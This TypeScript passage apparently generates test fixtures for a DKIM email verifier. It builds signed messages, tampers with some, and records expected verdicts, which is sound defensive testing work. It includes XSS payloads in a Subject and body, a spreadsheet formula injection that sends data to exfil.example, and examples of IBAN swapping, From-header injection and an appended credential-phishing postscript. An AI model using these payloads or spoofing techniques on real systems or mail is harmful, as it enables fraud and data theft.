      from: 'Office Manager <office@demo.example>',
      to: 'jordan@harbor.example',
      subject: 'Offsite logistics (bus at 8:15)',
      messageId: '<57ae3c10.office.1464766212@demo.example>',
      mimeHeaders: TEXT_PLAIN,
      body:
        'Hi all,\n\nthe bus to the offsite leaves at 8:15 sharp from the main entrance.\n' +
        'Lunch is provided; dinner is on your own.\n\nThanks,\nOffice\n',
      submission: sub('smtp.demo.example', '10.20.0.5'),
    };
    const signTime = addSeconds(instant(draft.date), 2);
    const m = await demoExampleMail(
      ring,
      draft,
      { domain: 'demo.example', selector: 's2048', expires: addSeconds(signTime, 7 * 24 * 3600) },
      'office@demo.example',
    );
    singles.set('2016-06-01 Offsite logistics.eml', {
      signedForm: m.signedForm,
      stored: m.delivered,
      date: m.date,
      ...genuine(
        'Genuine RSA-2048 signature with x= seven days after t= (expired in June 2016). It was valid when the message was sent, so judged at the message\'s own time it verifies; judged against today\'s clock it would be "expired".',
      ),
    });
  }

  // --- F: body altered after signing (and after delivery) -------------------------------------
  {
    const draft: Draft = {
      date: '2018-02-06T11:02:50+01:00',
      from: 'Accounts Payable <ap@demo.example>',
      to: 'Jordan Reyes <jordan@harbor.example>',
      subject: 'RE: invoice 4471',
      messageId: '<000901d39f2a$4c8e1b20$e5aa5160$@demo.example>',
      extra: ['In-Reply-To: <4471-inv@harbor.example>', 'X-Mailer: Microsoft Outlook 16.0'],
      mimeHeaders: TEXT_PLAIN,
      body:
        'Hello Jordan,\n\ninvoice 4471 is approved for EUR 12,480.00 and will be paid on\n' +
        '15 February to the account on file:\n\n  IBAN DE89 3704 0044 0532 0130 00\n\n' +
        'Kind regards,\nAccounts Payable\n',
      submission: sub('smtp.demo.example', '10.20.8.44', 'Microsoft SMTP Server'),
    };
    const m = await demoExampleMail(ring, draft, { domain: 'demo.example', selector: 's2048' }, 'ap@demo.example');
    const tampered = m.delivered
      .replace('EUR 12,480.00', 'EUR 21,480.00')
      .replace('IBAN DE89 3704 0044 0532 0130 00', 'IBAN GB33 BUKB 2020 1555 5555 55');
    if (tampered === m.delivered) throw new Error('F: tampering did not apply');
    singles.set('FW- invoice 4471.eml', {
      signedForm: m.signedForm,
      stored: tampered,
      date: m.date,
      verdict: 'suspicious',
      reasons: ['dkim-body-modified'],
      repairs: [],
      note: 'Genuine demo.example signature, but the amount and IBAN in the body were edited after signing: the body hash no longer matches.',
    });
  }

  // --- G: Subject altered ----------------------------------------------------------------------
  {
    const draft: Draft = {
      date: '2018-11-20T18:47:09+01:00',
      from: 'Maria Keller <maria.keller@demo.example>',
      to: 'board@demo.example',
      cc: 'jordan@harbor.example',
      subject: 'Board minutes 2018-11 (draft, not approved)',
      messageId: '<CAF7d2kq=Zx8x1m9s0Vd3+board@mail.demo.example>',
      mimeHeaders: TEXT_PLAIN,
      body:
        'Dear all,\n\nplease find the draft minutes below. Nothing here is approved until the\n' +
        'December meeting.\n\n1. Budget 2019: discussed, vote postponed.\n2. Harbor partnership: continue talks.\n\nMaria\n',
      submission: sub('smtp.demo.example', '10.20.1.9'),
    };
    const m = await demoExampleMail(ring, draft, { domain: 'demo.example', selector: 's2048' }, 'maria.keller@demo.example');
    const tampered = m.delivered.replace(
      'Subject: Board minutes 2018-11 (draft, not approved)',
      'Subject: Board minutes 2018-11 (FINAL, approved)',
    );
    if (tampered === m.delivered) throw new Error('G: tampering did not apply');
    singles.set('inbox/2018-11-20 Board minutes.eml', {
      signedForm: m.signedForm,
      stored: tampered,
      date: m.date,
      verdict: 'suspicious',
      reasons: ['dkim-signature-mismatch'],
      repairs: [],
      note: 'The signed Subject said "draft, not approved"; it was changed to "FINAL, approved" after signing. The body hash still matches, the header signature does not.',
    });
  }

  // --- H: a second From injected above the signed one -----------------------------------------
  {
    const draft: Draft = {
      date: '2019-01-08T09:15:31+01:00',
      from: 'Sam Ortiz <sam@demo.example>',
      to: 'Jordan Reyes <jordan@harbor.example>',
      subject: 'Payment instructions for the Q1 retainer',
      messageId: '<20190108081531.7731.sam@demo.example>',
      mimeHeaders: TEXT_PLAIN,
      body:
        'Hi Jordan,\n\nplease hold the Q1 retainer until you hear from finance directly.\n' +
        'Do not act on payment instructions sent by e-mail only.\n\nSam\n',
      submission: sub('smtp.demo.example', '10.20.3.17'),
    };
    const m = await demoExampleMail(ring, draft, { domain: 'demo.example', selector: 's2048' }, 'sam@demo.example');
    const tampered = m.delivered.replace(
      '\r\nFrom: Sam Ortiz <sam@demo.example>\r\n',
      '\r\nFrom: Maria Keller (CEO) <maria.keller@demo.example>\r\nFrom: Sam Ortiz <sam@demo.example>\r\n',
    );
    if (tampered === m.delivered) throw new Error('H: tampering did not apply');
    singles.set('inbox/2019-01-08 Payment instructions.eml', {
      signedForm: m.signedForm,
      stored: tampered,
      date: m.date,
      verdict: 'suspicious',
      reasons: ['header-injected'],
      repairs: [],
      note: 'A second From (the CEO) was inserted above the signed From (Sam). The signature lists From once and still verifies over the bottom copy; mail programs show the top, unsigned one.',
    });
  }

  // --- I: signed with l=, then content appended ------------------------------------------------
  {
    const body =
      'Hi Jordan,\n\nhere is the weekly status: migration is on track, the vendor call moved\n' +
      'to Thursday 14:00.\n\nTom\n';
    const draft: Draft = {
      date: '2018-03-12T16:20:00+01:00',
      from: 'Tom Weber <tom@demo.example>',
      to: 'jordan@harbor.example',
      subject: 'Weekly status',
      messageId: '<1520868000.4410.tom@demo.example>',
      mimeHeaders: TEXT_PLAIN,
      body,
      submission: sub('smtp.demo.example', '10.20.2.40'),
    };
    const m = await demoExampleMail(
      ring,
      draft,
      { domain: 'demo.example', selector: 's2048', maxBodyLength: Buffer.byteLength(crlf(body)) },
      'tom@demo.example',
    );
    const appended =
      m.delivered +
      crlf(
        '\nP.S. Change of plan: please send the vendor credentials to\n' +
          'tom.weber.private@freemail.example today, I am out of office.\n',
      );
    singles.set('inbox/2018-03-12 Weekly status.eml', {
      signedForm: m.signedForm,
      stored: appended,
      date: m.date,
      verdict: 'suspicious',
      reasons: ['body-content-after-l'],
      repairs: [],
      note: 'The signature has l= covering only the original body; a "P.S." asking for credentials was appended after it. The signature itself still verifies.',
    });
  }

  // --- K: rotated key (s2016 not in the key file) ----------------------------------------------
  {
    const draft: Draft = {
      date: '2016-10-04T13:58:21+02:00',
      from: 'Ops Team <ops@demo.example>',
      to: 'jordan@harbor.example',
      subject: 'Server migration window',
      messageId: '<57f39a1d.ops.20161004@demo.example>',
      mimeHeaders: TEXT_PLAIN,
      body:
        'Hello,\n\nthe shared file server moves on Saturday 8 October between 06:00 and 10:00.\n' +
        'Expect two short interruptions.\n\nOps\n',
      submission: sub('smtp.demo.example', '10.20.0.2'),
    };
    const m = await demoExampleMail(ring, draft, { domain: 'demo.example', selector: 's2016' }, 'ops@demo.example');
    singles.set('inbox/2016-10-04 Server migration.eml', {
      signedForm: m.signedForm,
      stored: m.delivered,
      date: m.date,
      verdict: 'unverifiable',
      reasons: ['key-not-found'],
      repairs: [],
      note: 'Genuinely signed with demo.example selector s2016, a key since rotated out of DNS: it is deliberately absent from demo-keys.json.',
    });
  }

  // --- L: revoked key ----------------------------------------------------------------------------
  {
    const draft: Draft = {
      date: '2017-08-22T10:04:55-04:00',
      from: 'Priya Raman <priya@gone.example>',
      to: 'jordan@harbor.example',
      subject: 'Farewell and new contact details',
      messageId: '<CAB9k1x2Fw7Tg5.priya@mail.gone.example>',
      mimeHeaders: TEXT_PLAIN,
      body:
        'Dear Jordan,\n\nFriday is my last day at Gone Ltd. From September you can reach\n' +
        'the team at partners@gone.example.\n\nAll the best,\nPriya\n',
      submission: sub('mail.gone.example', '172.16.5.20'),
    };
    const m = await demoExampleMail(
      ring,
      draft,
      { domain: 'gone.example', selector: 'revoked' },
      'priya@gone.example',
      { host: 'mail.gone.example', ip: '203.0.113.40' },
    );
    singles.set('inbox/2017-08-22 Farewell.eml', {
      signedForm: m.signedForm,
      stored: m.delivered,
      date: m.date,
      verdict: 'unverifiable',
      reasons: ['key-revoked'],
      repairs: [],
      note: 'Signed by gone.example selector "revoked"; the key record is published with an empty p= (revoked).',
    });
  }

  // --- M: 512-bit RSA key ------------------------------------------------------------------------
  {
    const draft: Draft = {
      date: '2016-12-01T07:30:00+00:00',
      from: 'Legacy Portal <noreply@weak.example>',
      to: 'jordan@harbor.example',
      subject: 'Your portal password expires in 3 days',
      messageId: '<20161201073000.19932@portal.weak.example>',
      mimeHeaders: TEXT_PLAIN,
      body:
        'Dear user,\n\nyour password for the legacy supplier portal expires in 3 days.\n' +
        'Log in at https://portal.weak.example/ to change it.\n\nThis is an automated message.\n',
    };
    const m = await demoExampleMail(
      ring,
      draft,
      { domain: 'weak.example', selector: 'old512' },
      'bounces@weak.example',
      { host: 'portal.weak.example', ip: '203.0.113.77' },
    );
    singles.set('inbox/2016-12-01 Legacy portal.eml', {
      signedForm: m.signedForm,
      stored: m.delivered,
      date: m.date,
      verdict: 'unverifiable',
      reasons: ['key-too-weak'],
      repairs: [],
      note: 'Signed with a 512-bit RSA key. The signature verifies cryptographically, but such a key can be factored cheaply, so it proves nothing.',
    });
  }

  // --- N: h= does not list From ------------------------------------------------------------------
  {
    const draft: Draft = {
      date: '2018-06-19T14:03:36+02:00',
      from: 'Shipping Notifications <shipping@demo.example>',
      to: 'jordan@harbor.example',
      subject: 'Shipment DX-20931 has left the warehouse',
      messageId: '<shipment.DX-20931.1529409816@notify.demo.example>',
      mimeHeaders: TEXT_PLAIN,
      body:
        'Your shipment DX-20931 (2 parcels) left the Rotterdam warehouse today.\n' +
        'Expected delivery: 21 June 2018.\n',
    };
    const date = instant(draft.date);
    const message = compose(draft);
    const signature = await dkimWithoutFrom(ring, message, {
      domain: 'demo.example',
      selector: 's2048',
      signTime: addSeconds(date, 1),
      headerList: 'To:Subject:Date:Message-ID:MIME-Version:Content-Type',
    });
    const signedForm = signature + message;
    const delivered = deliver(signedForm, {
      returnPath: 'bounce-dx20931@notify.demo.example',
      relay: 'notify.demo.example',
      relayIp: '192.0.2.33',
      at: addSeconds(date, 5),
      seed: draft.messageId,
    });
    singles.set('inbox/2018-06-19 Shipment notice.eml', {
      signedForm,
      stored: delivered,
      date,
      verdict: 'unverifiable',
      reasons: ['signature-not-covering-from'],
      repairs: [],
      note: 'A cryptographically valid demo.example signature whose h= (To:Subject:Date:Message-ID:MIME-Version:Content-Type) omits From, so it says nothing about the author. mailauth reports it as neutral "From field not signed" without checking it.',
    });
  }

  // --- S: hostile Subject with <script>, genuine -------------------------------------------------
  {
    const draft: Draft = {
      date: '2018-04-03T12:00:41+02:00',
      from: 'Website Contact Form <webform@demo.example>',
      to: 'jordan@harbor.example',
      subject: 'Contact form: <script>alert(1)</script>',
      messageId: '<webform.1522749641.88213@www.demo.example>',
      extra: ['Reply-To: "visitor" <visitor@freemail.example>', 'X-Mailer: PHPMailer 5.2.22'],
      mimeHeaders: ['Content-Type: text/plain; charset=us-ascii', 'Content-Transfer-Encoding: 7bit'],
      body:
        'A visitor submitted the contact form.\n\nName: <img src=x onerror=alert(2)>\n' +
        'Message: "><svg onload=alert(3)>\n',
    };
    const m = await demoExampleMail(
      ring,
      draft,
      { domain: 'demo.example', selector: 's2048' },
      'webform@demo.example',
      { host: 'www.demo.example', ip: '192.0.2.80' },
    );
    singles.set('inbox/2018-04-03 Website contact form.eml', {
      signedForm: m.signedForm,
      stored: m.delivered,
      date: m.date,
      ...genuine(
        'Hostile input for the reports: the Subject contains <script>alert(1)</script> (the body more HTML). The message itself is genuinely signed by demo.example, so it is verified; reports must escape it.',
      ),
    });
  }

  // --- J: hostile Subject starting with =HYPERLINK(, unsigned -----------------------------------
  {
    const draft: Draft = {
      date: '2018-07-30T19:22:05+02:00',
      from: 'Jordan Reyes <jordan@harbor.example>',
      to: 'Alice Moreau <alice@demo.example>',
      subject: '=HYPERLINK("http://exfil.example/?d="&A1,"Quarterly export")',
      messageId: '<b8c0e1f2-3344-4a5b-9c6d-7e8f90a1b2c3@harbor.example>',
      extra: ['User-Agent: Mozilla/5.0 (Macintosh; Intel Mac OS X 10.13; rv:52.0) Gecko/20100101 Thunderbird/52.9.1'],
      mimeHeaders: ['Content-Type: text/plain; charset=utf-8; format=flowed', 'Content-Transfer-Encoding: 7bit', 'Content-Language: en-US'],
      body: 'Alice,\n\nhere is the link to the quarterly export you asked for.\n\nJordan\n',
    };
    const message = compose(draft);
    singles.set('sent/2018-07-30 Quarterly export.eml', {
      signedForm: message,
      stored: message,
      date: instant(draft.date),
      verdict: 'unverifiable',
      reasons: ['unsigned'],
      repairs: [],
      note: 'Hostile input for the reports: the Subject starts with =HYPERLINK( (CSV/spreadsheet formula injection). A copy from the Sent folder, saved before any server signed it: unsigned.',
    });
  }

  // --- Q: stored with bare LF line endings -------------------------------------------------------
  {
    const draft: Draft = {
      date: '2019-04-17T08:12:59+02:00',
      from: 'Travel Desk <travel@demo.example>',
      to: 'Jordan Reyes <jordan@harbor.example>',
      subject: 'Booking confirmed: AMS-LIS 24 April',
      messageId: '<travel.20190417.0812.5521@demo.example>',
      mimeHeaders: TEXT_PLAIN,
      body:
        'Hello Jordan,\n\nyour booking is confirmed.\n\n  24 April  AMS 09:40 -> LIS 11:55\n' +
        '  26 April  LIS 18:30 -> AMS 22:35\n\nBooking reference: QX7K2P\n\nTravel Desk\n',
      submission: sub('smtp.demo.example', '10.20.6.3'),
    };
    const m = await demoExampleMail(ring, draft, { domain: 'demo.example', selector: 's2048' }, 'travel@demo.example');
    singles.set('export-2019/2019-04-17 Travel booking.eml', {
      signedForm: m.signedForm,
      stored: m.delivered.replace(/\r\n/g, '\n'),
      date: m.date,
      verdict: 'verified',
      reasons: ['dkim-verified'],
      repairs: ['crlf'],
      note: 'Genuinely signed over CRLF, then saved by an export tool with bare LF line endings. Verifies once line endings are restored to CRLF.',
    });
  }

  // --- P: mailing-list copy: footer + Subject tag, ARC-sealed and re-signed by the list --------
  {
    const draft: Draft = {
      date: '2019-03-05T16:20:14+01:00',
      from: 'Carol Nguyen <carol@demo.example>',
      to: 'team@lists.example',
      subject: 'Release checklist',
      messageId: '<CAOe8Y5nQ2rT7b.carol@mail.demo.example>',
      extra: ['User-Agent: Mozilla/5.0 (X11; Linux x86_64; rv:60.0) Gecko/20100101 Thunderbird/60.5.1'],
      mimeHeaders: TEXT_PLAIN,
      body:
        'Hi team,\n\nbefore Thursday please tick your items:\n\n- changelog (Ben)\n- release notes (me)\n' +
        '- smoke tests on staging (Tom)\n\nCarol\n',
      submission: { client: '10.20.5.12', server: 'smtp.demo.example', software: 'Postfix', rcpt: 'team@lists.example', delay: 1 },
    };
    const date = instant(draft.date);
    const original = compose(draft);
    const originalSig = await dkim(ring, original, { domain: 'demo.example', selector: 's2048', signTime: addSeconds(date, 2) });
    const originalSigned = originalSig + original;

    // the list server receives it ...
    const atList = addSeconds(date, 4);
    let listCopy = addHops(
      originalSigned,
      [
        {
          from: 'smtp.demo.example',
          fromIp: '192.0.2.10',
          by: 'mail.lists.example',
          software: 'Postfix',
          protocol: 'ESMTPS',
          rcpt: 'team@lists.example',
          at: atList,
        },
      ],
      draft.messageId,
    );
    // ... tags the Subject, adds its List-* headers and appends a footer (Mailman style)
    listCopy = listCopy.replace('\r\nSubject: Release checklist\r\n', '\r\nSubject: [team] Release checklist\r\n');
    listCopy = listCopy.replace(
      '\r\nContent-Transfer-Encoding: 7bit\r\n\r\n',
      '\r\nContent-Transfer-Encoding: 7bit\r\n' +
        'Sender: "team" <team-bounces@lists.example>\r\n' +
        'Errors-To: team-bounces@lists.example\r\n' +
        'Precedence: list\r\n' +
        'List-Id: Release team <team.lists.example>\r\n' +
        'List-Unsubscribe: <https://lists.example/mailman/options/team>,\r\n <mailto:team-request@lists.example?subject=unsubscribe>\r\n' +
        'List-Post: <mailto:team@lists.example>\r\n' +
        'List-Help: <mailto:team-request@lists.example?subject=help>\r\n' +
        'List-Archive: <https://lists.example/pipermail/team/>\r\n\r\n',
    );
    listCopy += crlf(
      '_______________________________________________\nteam mailing list\nteam@lists.example\nhttps://lists.example/mailman/listinfo/team\n',
    );
    // Mailman hands it back to the MTA
    const atOut = addSeconds(date, 6);
    listCopy = `Received: from mail.lists.example (localhost [127.0.0.1])\r\n\tby mail.lists.example (Postfix) with ESMTP id ${queueId(
      `${draft.messageId}mailman`,
    )};\r\n\t${mailDate(atOut, '+0000', 'UTC')}\r\n${listCopy}`;
    // the list's MTA signs as lists.example ...
    const listSig = await dkim(ring, listCopy, { domain: 'lists.example', selector: 'arc', signTime: addSeconds(atOut, 1) });
    listCopy = listSig + listCopy;
    // ... and adds an ARC set recording what it saw on arrival: the author's signature passed
    const b8 = /b=([A-Za-z0-9+/]{8})/.exec(originalSig.replace(/\r\n[ \t]+/g, ''))?.[1] ?? '';
    const seal = await createSeal(Buffer.from(listCopy, 'latin1'), {
      seal: {
        signingDomain: 'lists.example',
        selector: 'arc',
        privateKey: privateKeyOf(ring, 'arc', 'lists.example'),
        cv: 'none',
        signTime: addSeconds(atOut, 1),
        authResults:
          `mail.lists.example; dkim=pass header.d=demo.example header.s=s2048 header.b=${b8};\r\n` +
          '\tspf=pass (mail.lists.example: domain of carol@demo.example designates 192.0.2.10 as permitted sender) smtp.mailfrom=carol@demo.example;\r\n' +
          '\tdmarc=pass (p=QUARANTINE sp=QUARANTINE dis=NONE) header.from=demo.example',
      },
    });
    if (seal.errors.length || seal.headers.length !== 3) {
      throw new Error(`ARC sealing failed: ${seal.errors.map((e) => e.err.message).join('; ')}`);
    }
    const sealed = `${seal.headers.join('\r\n')}\r\n${listCopy}`;
    const delivered = deliver(sealed, {
      returnPath: 'team-bounces@lists.example',
      relay: 'mail.lists.example',
      relayIp: '203.0.113.25',
      at: addSeconds(atOut, 3),
      seed: `${draft.messageId}delivery`,
    });
    singles.set('lists/2019-03-05 [team] Release checklist.eml', {
      signedForm: sealed,
      stored: delivered,
      date,
      verdict: 'suspicious',
      reasons: ['dkim-body-modified'],
      repairs: [],
      note: 'Mailing-list copy. The author\'s demo.example signature fails: the list tagged the Subject and appended a footer. The list ARC-sealed the message (i=1, cv=none) with ARC-Authentication-Results dkim=pass header.d=demo.example, but lists.example is not a well-known ARC sealer, and anyone can seal a chain that claims so: the claim is reported (arc-sealer-not-trusted) and explains nothing. The lists.example DKIM signature passes but is not aligned with From. The message was changed after signing.',
    });
  }

  // --- mbox archive/2017.mbox ----------------------------------------------------------------------
  const mbox: Built[] = [];
  {
    const draft: Draft = {
      date: '2017-01-12T15:44:18+01:00',
      from: 'Alice Moreau <alice@demo.example>',
      to: 'Jordan Reyes <jordan@harbor.example>',
      subject: 'Kick-off agenda',
      messageId: '<5877957a.4410.alice@smtp.demo.example>',
      mimeHeaders: TEXT_PLAIN,
      body: 'Jordan,\n\nagenda for Monday:\n\n1. scope\n2. timeline\n3. who does what\n\nAlice\n',
      submission: sub('smtp.demo.example', '10.20.0.15'),
    };
    const m = await demoExampleMail(ring, draft, { domain: 'demo.example', selector: 's2048' }, 'alice@demo.example');
    mbox.push({ signedForm: m.signedForm, stored: m.delivered, date: m.date, ...genuine('Genuine RSA-2048 demo.example message inside an mboxrd file.') });
  }
  {
    const draft: Draft = {
      date: '2017-03-16T10:02:37+01:00',
      from: 'Ben Okafor <ben@demo.example>',
      to: 'Jordan Reyes <jordan@harbor.example>',
      subject: 'Notes from the steering group',
      messageId: '<58ca54dd.1207.ben@smtp.demo.example>',
      mimeHeaders: TEXT_PLAIN,
      body:
        'Jordan,\n\nshort version below.\n\nFrom the steering group minutes:\n' +
        '  - the pilot is extended to June\n  - Harbor gets read access to the dashboard\n\n' +
        'From my side nothing else.\n\nBen\n',
      submission: sub('smtp.demo.example', '10.20.0.31'),
    };
    const m = await demoExampleMail(ring, draft, { domain: 'demo.example', selector: 's2048' }, 'ben@demo.example');
    mbox.push({
      signedForm: m.signedForm,
      stored: m.delivered,
      date: m.date,
      verdict: 'verified',
      reasons: ['dkim-verified'],
      repairs: ['mboxrd-unquote'],
      note: 'Genuine signed body with two lines starting with "From "; the mboxrd file stores them as ">From ". Verifies once the mboxrd quoting is undone.',
    });
  }
  {
    const draft: Draft = {
      date: '2017-03-16T11:30:02+01:00',
      from: 'Jordan Reyes <jordan@harbor.example>',
      to: 'Ben Okafor <ben@demo.example>',
      subject: 'Re: Notes from the steering group',
      messageId: '<e1d2c3b4-a596-4877-8899-aabbccddeeff@harbor.example>',
      extra: ['In-Reply-To: <58ca54dd.1207.ben@smtp.demo.example>', 'References: <58ca54dd.1207.ben@smtp.demo.example>'],
      mimeHeaders: TEXT_PLAIN,
      body: 'Thanks Ben, noted. Dashboard access: please use my harbor address.\n\nJordan\n',
    };
    const message = compose(draft);
    mbox.push({
      signedForm: message,
      stored: message,
      date: instant(draft.date),
      verdict: 'unverifiable',
      reasons: ['unsigned'],
      repairs: [],
      note: 'Jordan\'s own reply, archived from the Sent folder: never signed.',
    });
  }
  {
    // O: a third-party ESP signs for demo.example's billing mail with its own domain
    const draft: Draft = {
      date: '2017-06-30T06:00:03+00:00',
      from: 'Demo Example Billing <billing@demo.example>',
      to: 'jordan@harbor.example',
      subject: 'Your June statement is ready',
      messageId: '<0100015cf6a1b2c3-5e6f7a8b-9c0d-4e1f-a2b3-c4d5e6f7a8b9-000000@mailer.example>',
      extra: ['List-Unsubscribe: <https://mailer.example/u/7f3a9c1e>', 'Feedback-ID: 1.eu-west-1.billing:demo.example'],
      mimeHeaders: TEXT_PLAIN,
      body:
        'Hello,\n\nyour June statement for account HX-1193 is ready in the customer portal.\n' +
        'Amount due: EUR 1,240.00 by 15 July.\n\nDemo Example Billing\n',
    };
    const m = await demoExampleMail(
      ring,
      draft,
      { domain: 'mailer.example', selector: 'esp', signDelay: 0 },
      '0100015cf6a1b2c3-bounce@mailer.example',
      { host: 'a8-12.smtp-out.mailer.example', ip: '198.51.100.140' },
    );
    mbox.push({
      signedForm: m.signedForm,
      stored: m.delivered,
      date: m.date,
      verdict: 'unverifiable',
      reasons: ['signature-not-aligned'],
      repairs: [],
      note: 'Third-party ESP: signed d=mailer.example while From is billing@demo.example. The signature verifies and covers From, but mailer.example is not the From domain: it proves that the sending service sent these bytes, not that demo.example did (anyone can sign mail with any From with a domain of their own).',
    });
  }

  // --- emlx: Apple Mail stores bare LF -------------------------------------------------------------
  let emlxMessage: Built;
  {
    const draft: Draft = {
      date: '2018-04-06T19:31:08+02:00',
      from: 'Alice Moreau <alice@demo.example>',
      to: 'Jordan Reyes <jordan@harbor.example>',
      subject: 'Dinner on Tuesday?',
      messageId: '<AE4C9D1B-2F37-4B8E-A061-5C7D8E9F0A1B@demo.example>',
      extra: ['X-Mailer: iPhone Mail (15D100)'],
      mimeHeaders: ['Content-Type: text/plain;\r\n\tcharset=us-ascii', 'Content-Transfer-Encoding: 7bit'],
      body: 'Are you free for dinner on Tuesday after the workshop? 19:30 near the station?\n\nA.\n',
      submission: sub('smtp.demo.example', '10.20.9.101'),
    };
    const m = await demoExampleMail(ring, draft, { domain: 'demo.example', selector: 's2048' }, 'alice@demo.example');
    emlxMessage = {
      signedForm: m.signedForm,
      stored: m.delivered.replace(/\r\n/g, '\n'),
      date: m.date,
      verdict: 'verified',
      reasons: ['dkim-verified'],
      repairs: ['crlf'],
      note: 'Apple Mail .emlx (byte-count line, message, plist). Mail stores messages with bare LF, so it verifies after restoring CRLF line endings.',
    };
  }

  return { singles, mbox, emlxMessage };
}

/** Maildir messages: D (RSA-1024 newsletter) in cur/, an unsigned scanner notice in new/. */
async function buildMaildir(ring: KeyRing): Promise<Map<string, Built>> {
  const out = new Map<string, Built>();
  {
    const boundary = 'b1_5a4c7e2d9f0b3a1c6e8d';
    const draft: Draft = {
      date: '2017-03-20T08:53:10+00:00',
      from: 'News Example Weekly <weekly@news.example>',
      to: 'jordan@harbor.example',
      subject: 'This week: port automation, rail freight, and a quiz',
      messageId: '<weekly-2017-12.jordan=harbor.example@news.example>',
      extra: [
        'List-Unsubscribe: <https://news.example/unsubscribe?u=7731>',
        'List-Id: News Example Weekly <weekly.news.example>',
      ],
      mimeHeaders: [`Content-Type: multipart/alternative; boundary="${boundary}"`],
      body:
        `--${boundary}\nContent-Type: text/plain; charset=us-ascii\nContent-Transfer-Encoding: 7bit\n\n` +
        'NEWS EXAMPLE WEEKLY - issue 12/2017\n\n* Port automation: what changes for pilots\n' +
        '* Rail freight volumes up 4 percent\n* Friday quiz\n\nUnsubscribe: https://news.example/unsubscribe?u=7731\n\n' +
        `--${boundary}\nContent-Type: text/html; charset=us-ascii\nContent-Transfer-Encoding: quoted-printable\n\n` +
        '<html><body><h1 style=3D"font-family:sans-serif">News Example Weekly</h1>\n' +
        '<ul><li>Port automation: what changes for pilots</li>\n<li>Rail freight volumes up 4 percent</li>\n' +
        '<li>Friday quiz</li></ul>\n<p><a href=3D"https://news.example/unsubscribe?u=3D7731">Unsubscribe</a></p>\n' +
        `</body></html>\n\n--${boundary}--\n`,
    };
    const m = await demoExampleMail(
      ring,
      draft,
      { domain: 'news.example', selector: 's1024', signDelay: 1 },
      'bounce-7731@news.example',
      { host: 'out3.news.example', ip: '198.51.100.61' },
    );
    out.set('Maildir/cur/1490000000.M0P77.host:2,S', {
      signedForm: m.signedForm,
      stored: m.delivered,
      date: m.date,
      verdict: 'verified',
      reasons: ['dkim-verified'],
      repairs: [],
      note: 'Newsletter signed by news.example with an RSA-1024 key (the minimum accepted size); multipart/alternative with a quoted-printable HTML part. Maildir cur/ file, seen flag.',
    });
  }
  {
    const draft: Draft = {
      date: '2017-03-21T12:39:51+00:00',
      from: 'Scanner 3rd floor <scanner@harbor.example>',
      to: 'jordan@harbor.example',
      subject: 'Scanned document from MFP-3F',
      messageId: '<MFP3F.20170321123951.0042@scanner.harbor.example>',
      mimeHeaders: TEXT_PLAIN,
      body: 'Document scanned at 21.03.2017 12:39.\nPages: 2\nSaved to: \\\\fileserver\\scans\\scan-0042.pdf\n',
    };
    const message = compose(draft);
    const date = instant(draft.date);
    const delivered = addHops(
      message,
      [
        {
          from: 'scanner.harbor.example',
          fromIp: '10.1.3.50',
          by: 'imap.harbor.example',
          software: 'Postfix',
          protocol: 'SMTP',
          rcpt: MAILBOX,
          at: addSeconds(date, 8),
        },
      ],
      draft.messageId,
    );
    const stored = `Return-Path: <scanner@harbor.example>\r\nDelivered-To: ${MAILBOX}\r\n${delivered}`;
    out.set('Maildir/new/1490100000.M1P77.host', {
      signedForm: stored,
      stored,
      date,
      verdict: 'unverifiable',
      reasons: ['unsigned'],
      repairs: [],
      note: 'Internal scanner notification, never signed. Maildir new/ file without an info suffix.',
    });
  }
  return out;
}

// ---------------------------------------------------------------------------------------------
// Loose documents, forwarded messages and a zip export
// ---------------------------------------------------------------------------------------------

/** A spreadsheet-shaped zip (two stored XML parts): the attachment of the unsigned donor list. */
const DONORS_2018_XLSX = zipArchive(
  [
    {
      name: '[Content_Types].xml',
      data: Buffer.from(
        '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n' +
          '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">' +
          '<Default Extension="xml" ContentType="application/xml"/></Types>\n',
        'latin1',
      ),
    },
    {
      name: 'xl/sharedStrings.xml',
      data: Buffer.from(
        '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n' +
          '<sst xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" count="4" uniqueCount="4">' +
          '<si><t>donor</t></si><si><t>2018_eur</t></si><si><t>Northwind Trust</t></si><si><t>K. Albers</t></si></sst>\n',
        'latin1',
      ),
    },
  ],
  dosDateTime(2018, 5, 14, 8, 52, 10),
);

/** Same name as the contract attachment of a verified message, one figure changed. */
const ALTERED_CONTRACT_PDF = tinyPdf('Contract draft v4');

/** Decoded attachments of the dump's messages (the generator's own record; the test re-reads them from the messages). */
const KNOWN_ATTACHMENTS: ReadonlyArray<{ name: string; content: Buffer; ofVerifiedMessage: boolean }> = [
  { name: 'budget-q1.csv', content: BUDGET_Q1_CSV, ofVerifiedMessage: true },
  { name: 'contract-draft-v3.pdf', content: CONTRACT_DRAFT_V3_PDF, ofVerifiedMessage: true },
  { name: 'donors-2018.xlsx', content: DONORS_2018_XLSX, ofVerifiedMessage: false },
];

/** The document label of a non-email file, from KNOWN_ATTACHMENTS. */
function documentLabel(p: string, content: Buffer): ExpectedDocument {
  const name = p.slice(p.lastIndexOf('/') + 1).normalize('NFC').toLowerCase().replace(/\s+/gu, ' ').trim();
  const same = KNOWN_ATTACHMENTS.filter((a) => a.content.equals(content));
  const status: ExpectedDocument['status'] = same.some((a) => a.ofVerifiedMessage)
    ? 'verified-by-email'
    : same.length
      ? 'seen-in-unverified-email'
      : 'no-email-match';
  const nameConflict = KNOWN_ATTACHMENTS.some((a) => a.ofVerifiedMessage && a.name === name && !a.content.equals(content));
  return { path: p, document: true, status, nameConflict };
}

/** Delivery of a message into someone else's mailbox (the copy a forwarder later attaches). */
function deliverTo(
  message: string,
  o: { mailbox: string; returnPath: string; relay: string; relayIp: string; mx: string; mxIp: string; imap: string; at: Date; seed: string },
): string {
  const withHops = addHops(
    message,
    [
      { from: o.relay, fromIp: o.relayIp, by: o.mx, software: 'Postfix', protocol: 'ESMTPS', rcpt: o.mailbox, at: o.at },
      { from: o.mx, fromIp: o.mxIp, by: o.imap, software: 'Dovecot', protocol: 'LMTP', rcpt: o.mailbox, at: addSeconds(o.at, 1) },
    ],
    o.seed,
  );
  return `Return-Path: <${o.returnPath}>\r\nDelivered-To: ${o.mailbox}\r\n${withHops}`;
}

const PARTNER_MAILBOX = (local: string) => ({
  mailbox: `${local}@partner.example`,
  mx: 'mx.partner.example',
  mxIp: '203.0.113.91',
  imap: 'imap.partner.example',
});

